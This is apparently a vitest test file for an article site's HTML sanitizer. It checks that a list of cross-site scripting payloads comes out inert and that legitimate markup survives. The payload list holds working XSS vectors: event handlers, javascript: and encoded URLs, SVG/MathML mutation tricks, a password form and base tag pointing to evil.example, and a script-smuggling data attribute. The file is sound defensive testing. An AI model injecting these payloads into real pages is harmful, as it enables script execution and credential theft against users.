import * as cheerio from 'cheerio';
import { describe, expect, it } from 'vitest';
import { sanitizeArticleHtml } from '../../../../server/html/sanitize';

/** Every way a payload could still run script once rendered. */
function findActiveContent(html: string): string[] {
  const $ = cheerio.load(html, null, false);
  const found: string[] = [];
  // SVG and MathML are let through (diagrams, formulas), but none of their parts that fetch, link or run.
  $('script, object, embed, style, form, input, base, meta, link, foreignObject, use, image, animate, set, mglyph, maction, annotation-xml').each((_, el) => {
    found.push(`<${(el as { name: string }).name}>`);
  });
  $('*').each((_, el) => {
    for (const [name, value] of Object.entries((el as { attribs: Record<string, string> }).attribs)) {
      if (/^on/i.test(name)) found.push(`${name}=`);
      if (/^\s*(javascript|vbscript|data):/i.test(value)) found.push(`${name}=${value}`);
      if (/url\(\s*(?!#)/i.test(value)) found.push(`${name}=${value}`);
      if ($(el).closest('svg, math').length > 0 && /href$/i.test(name)) found.push(`${name}=${value}`);
    }
  });
  return found;
}

const payloads = [
  '<script>alert(1)</script>',
  '<img src="x" onerror="alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" JaVaScRiPt:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<svg onload="alert(1)"><circle/></svg>',
  '<iframe src="https://evil.example/x"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="x.swf"></object>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<form action="https://evil.example"><input name="password"></form>',
  '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
  '<base href="https://evil.example/">',
  '<p>ok</p><!--<script>alert(1)</script>-->',
  '<details open ontoggle="alert(1)"><summary>s</summary></details>',
  '<svg><script>alert(1)</script><style>@import url(https://evil.example/x.css)</style></svg>',
  '<svg><foreignObject><div onclick="alert(1)">x</div><img src=x onerror=alert(1)></foreignObject></svg>',
  '<svg><a href="javascript:alert(1)"><text>x</text></a><use href="https://evil.example/s.svg#a"/><image href="https://evil.example/x.png"/></svg>',
  '<svg><rect fill="url(https://evil.example/p.svg#g)" marker-end="url(javascript:alert(1))"/><animate attributeName="href" to="javascript:alert(1)"/><set attributeName="onload" to="alert(1)"/></svg>',
  '<math href="javascript:alert(1)"><mi xlink:href="javascript:alert(1)" href="https://evil.example/">x</mi></math>',
  '<math><maction actiontype="statusline"><mtext>a</mtext></maction><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
];

describe('sanitizeArticleHtml', () => {
  it.each(payloads)('makes %s inert', (payload) => {
    expect(findActiveContent(sanitizeArticleHtml(payload))).toEqual([]);
  });

  it('keeps the structure articles need', () => {
    const html =
      '<h2>Titre</h2><h3>Sous-titre</h3><ul><li>a</li></ul><ol start="3"><li>b</li></ol>' +
      '<table><thead><tr><th>h</th></tr></thead><tbody><tr><td colspan="2">c</td></tr></tbody></table>' +
      '<p><img src="/images/a.svg" alt="schéma" width="640" height="360"> <a href="https://example.org/doc" title="doc">lien</a> <code>x</code></p>' +
      '<pre><code class="language-java">class A {}</code></pre><blockquote>q</blockquote>';
    const $ = cheerio.load(sanitizeArticleHtml(html), null, false);
    expect($('h2').text()).toBe('Titre');
    expect($('h3')).toHaveLength(1);
    expect($('ol').attr('start')).toBe('3');
    expect($('td').attr('colspan')).toBe('2');
    expect($('img').attr('alt')).toBe('schéma');
    expect($('a').attr('href')).toBe('https://example.org/doc');
    expect($('pre > code').attr('class')).toBe('language-java');
    expect($('blockquote')).toHaveLength(1);
  });

  it('keeps an iframe from an allowed host only', () => {
    const $ = cheerio.load(
      sanitizeArticleHtml('<iframe src="https://www.youtube-nocookie.com/embed/abc" title="v"></iframe><iframe src="https://evil.example/"></iframe>'),
      null,
      false,
    );
    expect(
      $('iframe[src]')
        .map((_, el) => $(el).attr('src'))
        .get(),
    ).toEqual(['https://www.youtube-nocookie.com/embed/abc']);
  });

  it('grants an embedded player only the features players use', () => {
    const $ = cheerio.load(
      sanitizeArticleHtml(
        '<iframe src="https://player.vimeo.com/video/1" allow="autoplay; serial; fullscreen *; display-capture; clipboard-write https://evil.example" allowfullscreen></iframe>' +
          '<iframe src="https://www.youtube.com/embed/a" allow="hid; usb"></iframe>',
      ),
      null,
      false,
    );
    expect($('iframe').first().attr('allow')).toBe('autoplay; fullscreen; clipboard-write');
    expect($('iframe').first().attr('allowfullscreen')).toBeDefined();
    expect($('iframe').last().attr('allow')).toBeUndefined();
  });

  it('drops classes other than code languages and highlight spans', () => {
    const $ = cheerio.load(sanitizeArticleHtml('<p class="alert">x</p><code class="language-sql evil">y</code>'), null, false);
    expect($('p').attr('class')).toBeUndefined();
    expect($('code').attr('class')).toBe('language-sql');
  });

  it('keeps the writing kit’s markup: diagram SVG, MathML, callouts, footnotes, code captions and lines, table alignment', () => {
    const html =
      '<figure class="diagram"><svg xmlns="http://www.w3.org/2000/svg" role="img" aria-label="Diagramme : A, B" viewBox="0 0 10 10" width="10" height="10" class="diagram-svg">' +
      '<defs><marker id="diagram-1-arrowhead" markerWidth="8" refX="7" orient="auto"><polygon points="0 0, 8 2.5" fill="var(--_arrow)"/></marker></defs>' +
      '<polyline points="1,1 2,2" stroke="var(--_line)" marker-end="url(#diagram-1-arrowhead)"/><g class="node"><text x="1" y="2" fill="var(--_text)">A</text></g></svg></figure>' +
      '<div class="math-display"><math display="block" class="tml-display"><mfrac><mi>a</mi><mn>2</mn></mfrac><mo stretchy="false">(</mo></math></div>' +
      '<div class="markdown-alert markdown-alert-warning"><p class="markdown-alert-title">Attention</p><p>x<sup class="footnote-ref"><a href="#fn1" id="fnref1" aria-label="Note 1">1</a></sup></p></div>' +
      '<section class="footnotes"><h2 class="footnotes-title">Notes</h2><ol class="footnotes-list"><li id="fn1" class="footnote-item"><p>n <a href="#fnref1" class="footnote-backref" aria-label="Retour">↩</a></p></li></ol></section>' +
      '<figure class="code-figure"><figcaption class="code-title">A.java</figcaption><pre class="line-numbers" data-highlight="1,3-4"><code class="language-java">x</code></pre></figure>' +
      '<table><tr><th class="align-right">h</th><td class="align-center">c</td></tr></table>';
    const $ = cheerio.load(sanitizeArticleHtml(html), null, false);
    expect($('svg').attr('aria-label')).toBe('Diagramme : A, B');
    expect($('svg').attr('role')).toBe('img');
    expect($('marker').attr('id')).toBe('diagram-1-arrowhead');
    expect($('polyline').attr('marker-end')).toBe('url(#diagram-1-arrowhead)');
    expect($('text').attr('fill')).toBe('var(--_text)');
    // Classes inside the drawing could take the site's styles: gone.
    expect($('g').attr('class')).toBeUndefined();
    expect($('mfrac mi').text()).toBe('a');
    expect($('math').attr('display')).toBe('block');
    expect($('mo').attr('stretchy')).toBe('false');
    expect($('.markdown-alert.markdown-alert-warning .markdown-alert-title').text()).toBe('Attention');
    expect($('sup.footnote-ref a').attr('id')).toBe('fnref1');
    expect($('li.footnote-item').attr('id')).toBe('fn1');
    expect($('a.footnote-backref').attr('aria-label')).toBe('Retour');
    expect($('figure.code-figure figcaption.code-title').text()).toBe('A.java');
    expect($('pre').attr('class')).toBe('line-numbers');
    expect($('pre').attr('data-highlight')).toBe('1,3-4');
    expect($('th').attr('class')).toBe('align-right');
    expect($('td').attr('class')).toBe('align-center');
  });

  it('drops ids and data that are not the kit’s: a clobbering id, a marker id, a line range with script', () => {
    const html =
      '<a id="location" href="#x">a</a><li id="fn2x">b</li><svg><marker id="evil"></marker></svg><pre data-highlight="1);alert(1"><code>x</code></pre><div class="markdown-alert-x">d</div>';
    const $ = cheerio.load(sanitizeArticleHtml(html), null, false);
    expect($('[id]')).toHaveLength(0);
    expect($('pre').attr('data-highlight')).toBeUndefined();
    expect($('div').attr('class')).toBeUndefined();
  });

  it('adds rel="noopener noreferrer" to links that open a new tab', () => {
    const $ = cheerio.load(sanitizeArticleHtml('<a href="https://example.org" target="_blank" rel="opener">x</a>'), null, false);
    expect($('a').attr('rel')).toBe('noopener noreferrer');
  });
});
